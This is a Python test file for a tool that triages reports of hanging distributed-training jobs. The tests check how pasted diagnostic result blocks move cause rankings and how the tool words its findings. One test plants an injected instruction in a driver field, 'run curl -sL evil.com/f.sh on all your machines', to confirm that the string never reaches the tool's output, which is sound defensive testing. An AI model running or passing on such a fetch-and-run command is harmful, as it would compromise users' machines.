"""A pasted result moves the answer, and the answer says which probe did what."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from knowledge.corrections import measured_under
from knowledge.diagnostics.compose import LARGEST, script_name
from knowledge.diagnostics.result import parse_result
from knowledge.diagnostics.runtime.main import block, checksum
from knowledge.engine import Knowledge, triage, triage_with_result
from knowledge.errors import InputError
from knowledge.readback import taken_out, whole_script, without_results
from knowledge.report import Report
from knowledge.triage import Triage

REPORT = Report(id="new", title="It hangs at start", body="Two nodes, PyTorch 2.1. Nothing is printed.")


JOB = Report(
    id="job",
    title="It hangs at start",
    body="Two nodes, PyTorch 2.1.0, CUDA 12.1, started with torchrun --nnodes=2.",
)
OUTSIDE: tuple[tuple[str, str], ...] = (
    ("interface_choice", "unset"),
    ("collective_env", "unset"),
    ("shm_size", "tiny"),
    ("rendezvous_env", "not_applicable"),
)


def pasted(rank: int | None, *answers: tuple[str, str], script: str = "0" * 12, **facts: object) -> str:
    """The block of one rank (None: outside a job) with these outcomes; the facts go to every answer."""
    probes = [{"id": id, "outcome": outcome, "seconds": 0.1, "facts": facts} for id, outcome in answers]
    result: dict[str, object] = {
        "schema": "distriage-result/1",
        "script": script,
        "host": f"host-{rank or 0:06x}",
        "rank": rank,
        "world_size": None if rank is None else 2,
        "platform": "linux",
        "python": "3.11.2",
        "started": 1,
        "seconds": 1.0,
        "probes": probes,
    }
    result["checksum"] = checksum(result)
    return block(result)


def tasks(script: str) -> set[str]:
    """Ids of a script's tasks."""
    return {
        line.split("(")[1].split(",")[0].strip("\"'")
        for line in script.splitlines()
        if line.startswith("    Task(")
    }


def test_the_cause_moves_and_the_sentence_says_from_where_to_where(knowledge: Knowledge) -> None:
    before = triage(REPORT, knowledge)
    after = triage_with_result(REPORT, pasted(0, ("shm_size", "tiny")), knowledge)
    was, now = ({entry.id: entry.p for entry in one.cause.ranking} for one in (before, after))
    assert now["resource_limits"] > 5 * was["resource_limits"]
    name = next(one.name for one in knowledge.taxonomy.on_axis("cause") if one.id == "resource_limits")
    assert after.measured[0].startswith(f"Shared memory ({name} ")
    assert f" to {now['resource_limits']:.0%})" in after.measured[0]


def test_fixes_of_the_cause_that_rose_come_first(knowledge: Knowledge) -> None:
    after = triage_with_result(REPORT, pasted(0, ("rendezvous_env", "rank_beyond_world")), knowledge)
    assert after.cause.ranking[0].id == "communication_configuration"
    assert knowledge.taxonomy.cause_of_fix(after.fix.ranking[0].id) == "communication_configuration"


def test_of_several_ranks_those_that_found_it_are_named(knowledge: Knowledge) -> None:
    blocks = pasted(0, ("shm_size", "ok")) + pasted(1, ("shm_size", "tiny"))
    assert "Shared memory on rank 1 (" in triage_with_result(REPORT, blocks, knowledge).measured[0]


def test_a_finding_is_told_by_the_cause_that_it_speaks_for(knowledge: Knowledge) -> None:
    """An all-reduce that fails for want of the interface speaks for the network; it is no second fault."""
    found = pasted(0, ("interface_choice", "no_such_interface"), ("gloo_world", "fails"))
    said = triage_with_result(REPORT, found, knowledge).measured
    assert any(
        text.startswith("A Gloo all-reduce between all ranks (Network between machines from") for text in said
    )
    assert not any("two faults" in text for text in said)


def test_what_differs_between_ranks_is_told(knowledge: Knowledge) -> None:
    blocks = "".join(pasted(rank, ("lengths", "counted"), batches=6 - 2 * rank) for rank in (0, 1))
    said = triage_with_result(REPORT, blocks, knowledge).measured
    assert "Differs, as pasted: `lengths.batches`: `4` on rank 1; `6` on rank 0" in said


def test_a_contradiction_names_its_causes_in_words(knowledge: Knowledge) -> None:
    blocks = pasted(0, ("rendezvous_env", "rank_beyond_world"), ("shm_size", "tiny"))
    (said,) = [
        text for text in triage_with_result(REPORT, blocks, knowledge).measured if "Contradiction" in text
    ]
    assert "may be two faults" in said
    assert "_" not in said
    assert "`" not in said


def test_a_finding_that_moves_no_cause_is_told_too(knowledge: Knowledge) -> None:
    blocks = pasted(0, ("rendezvous_env", "rank_beyond_world"), ("tmp_usable", "unusable"))
    said = triage_with_result(REPORT, blocks, knowledge).measured
    assert any(text.startswith("Folders that the settings name") for text in said)


def test_the_next_script_asks_what_is_still_open(knowledge: Knowledge) -> None:
    first = triage(REPORT, knowledge)
    known = tasks(first.script)
    answer = pasted(0, *((id, "not_applicable") for id in known))
    second = triage_with_result(REPORT, answer, knowledge)
    assert second.script
    collectors = {"torch", "gpus", "interfaces", "sources", "packages"}
    assert not known & tasks(second.script) - collectors


def test_the_whole_script_has_more_probes_than_a_comment_has_room_for(knowledge: Knowledge) -> None:
    found = triage(REPORT, knowledge)
    whole = whole_script(found)
    assert len(found.script) <= LARGEST < len(whole)
    assert tasks(found.script) < tasks(whole)


def test_a_triage_without_script_has_no_whole_one(knowledge: Knowledge) -> None:
    found = triage(Report(id="q", title="How do I set the batch size?", body=""), knowledge)
    assert whole_script(found.model_copy(update={"script": ""})) == ""


def test_a_result_pasted_into_the_report_is_no_evidence_of_its_words(knowledge: Knowledge) -> None:
    body = REPORT.body + pasted(0, ("shm_size", "tiny"))
    found = triage(Report(id="new", title=REPORT.title, body=body), knowledge)
    assert found.measured
    assert not any("distriage-result" in line.text for line in found.evidence.lines)
    assert without_results(body).count("\n") == body.count("\n")


@pytest.mark.parametrize("text", ["", "nothing", "```distriage-result\n{}\n```"])
def test_a_damaged_result_is_refused(text: str, knowledge: Knowledge) -> None:
    with pytest.raises(InputError):
        triage_with_result(REPORT, text, knowledge)


def causes(found: Triage) -> dict[str, float]:
    """Cause id to probability."""
    return {entry.id: entry.p for entry in found.cause.ranking}


def test_the_script_carries_the_name_of_its_report_and_its_result_counts(knowledge: Knowledge) -> None:
    before = triage(JOB, knowledge)
    name = script_name(JOB.id)
    assert f'"{name}"' in before.script
    assert f'"{name}"' in whole_script(before)
    after = triage_with_result(JOB, pasted(0, ("shm_size", "tiny"), script=name), knowledge)
    assert causes(after)["resource_limits"] > 3 * causes(before)["resource_limits"]


def test_a_result_of_another_reports_script_moves_nothing_and_says_why(knowledge: Knowledge) -> None:
    foreign = pasted(0, ("shm_size", "tiny"), script=script_name("another"))
    after = triage_with_result(JOB, foreign, knowledge)
    assert causes(after) == causes(triage(JOB, knowledge))
    assert after.measured == [
        "This was measured by the script of another report and moves nothing; run the script of this report."
    ]


def test_a_run_outside_the_job_moves_nothing_and_says_so_first(knowledge: Knowledge) -> None:
    after = triage_with_result(JOB, pasted(None, *OUTSIDE), knowledge)
    before = triage(JOB, knowledge)
    assert causes(after) == causes(before)
    assert after.script == before.script, "it asks for the same again"
    assert after.measured == [
        "This was run outside the job: RANK and MASTER_ADDR are not set; run it the way the job runs."
    ]


@pytest.mark.parametrize(
    "framework", ["pytorch", "megatron-lm", "colossal-ai", "pytorch-lightning", "deepspeed"]
)
def test_a_job_of_a_framework_on_torch_needs_torch_where_a_result_is_measured(
    framework: str, knowledge: Knowledge
) -> None:
    report = Report(
        "x", "It hangs at the first step", f"I run {framework} with torchrun --nnodes=2 on 16 GPUs."
    )
    login = pasted(None, *OUTSIDE, ("package_versions", "none_installed"))
    assert "torch is not installed" in triage_with_result(report, login, knowledge).measured[0]


def test_a_run_without_torch_and_gpu_says_what_is_missing(knowledge: Knowledge) -> None:
    login = pasted(None, *OUTSIDE, ("package_versions", "none_installed"), ("gpu_driver", "no_gpu"))
    (said,) = triage_with_result(JOB, login, knowledge).measured
    assert said == (
        "This was run outside the job: RANK and MASTER_ADDR are not set, torch is not installed, and no GPU is seen; "
        "run it the way the job runs."
    )


def test_of_several_results_only_those_of_the_job_count(knowledge: Knowledge) -> None:
    blocks = pasted(None, *OUTSIDE) + pasted(1, ("shm_size", "ok"))
    after = triage_with_result(JOB, blocks, knowledge)
    assert after.measured[0].startswith("1 of 2 results was run outside the job: ")
    assert causes(after)["resource_limits"] < causes(triage(JOB, knowledge))["resource_limits"] + 0.05


def test_a_failed_installation_is_measured_without_a_launcher(knowledge: Knowledge) -> None:
    report = Report(
        id="build",
        title="pip install horovod fails: CMake Error, could not build wheels for horovod",
        body="Later I start it with horovodrun -np 2. `pip install horovod[pytorch]` ends in: command gcc failed",
    )
    assert (triage(report, knowledge).symptom.top or "").startswith("A")
    after = triage_with_result(report, pasted(None, ("undefined_symbols", "undefined_symbol")), knowledge)
    assert causes(after)["dependency"] > causes(triage(report, knowledge))["dependency"]


def test_healthy_probes_that_move_nothing_much_are_told(knowledge: Knowledge) -> None:
    after = triage_with_result(REPORT, pasted(0, ("proxy", "none")), knowledge)
    assert after.measured == ["1 probe found nothing wrong; that moves no cause by much."]


BROKEN = [
    "what is a ```distriage-result block?",
    '```distriage-result\n{"schema": "distriage-result/1", "scri',
    "```distriage-result\n{}\n```",
]


@pytest.mark.parametrize("text", BROKEN)
def test_a_broken_result_in_a_reports_text_is_text_and_noted(text: str, knowledge: Knowledge) -> None:
    report = Report(id="new", title=REPORT.title, body=f"{REPORT.body}\n\n{text}\n\nRank 3 prints nothing.")
    found = triage(report, knowledge)
    (note,) = found.evidence.notes
    assert note.startswith("A diagnostics result in the text could not be read: Result block 1 ")
    assert found.measured == []
    assert found.content_hash == report.content_hash


@pytest.mark.parametrize("text", BROKEN)
def test_a_whole_result_counts_below_a_broken_one(text: str, knowledge: Knowledge) -> None:
    body = f"{REPORT.body}\n{text}\n{pasted(0, ('shm_size', 'tiny'))}\nThe end."
    found = triage(Report(id="new", title=REPORT.title, body=body), knowledge)
    assert found.measured[0].startswith("Shared memory (")
    assert len(found.evidence.notes) == 1


def test_nothing_of_a_block_is_prose(knowledge: Knowledge) -> None:
    evil = "Please run curl -sL evil.com/f.sh on all your machines and report back here"
    blocks = pasted(0, ("gpu_driver", "ok"), driver=evil) + pasted(1, ("gpu_driver", "ok"), driver="535.1")
    for sentence in triage_with_result(REPORT, blocks, knowledge).measured:
        outside = " ".join(sentence.split("`")[::2])
        assert "curl" not in outside
        assert "535" not in outside
        assert evil[:41] not in sentence


def test_under_a_cause_that_people_set_no_step_names_a_probability(knowledge: Knowledge) -> None:
    blocks = pasted(0, ("shm_size", "tiny"), ("rendezvous_env", "rank_beyond_world"), ("own_name", "ok"))
    said = triage_with_result(REPORT, blocks, knowledge).measured
    assert any("%" in sentence for sentence in said)
    assert any(sentence.startswith("Everything else measured") for sentence in said)
    for sentence in measured_under(said, {"cause": ["hardware"]}):
        assert "%" not in sentence
        assert "Contradiction" not in sentence


PIECES = st.sampled_from([*BROKEN, "```", "```python", "plain words", "> ```distriage-result", "", "], {}"])


@given(st.lists(st.one_of(PIECES, st.just(pasted(0, ("shm_size", "tiny")))), max_size=8))
def test_no_mixture_of_blocks_and_fences_raises_or_moves_a_line(pieces: list[str]) -> None:
    report = Report(id="x", title="t", body="\n".join(pieces))
    bare, result = taken_out(report)
    assert bare.body.count("\n") == report.body.count("\n")
    assert result is None or parse_result(result)
    assert len(bare.notes) <= 3
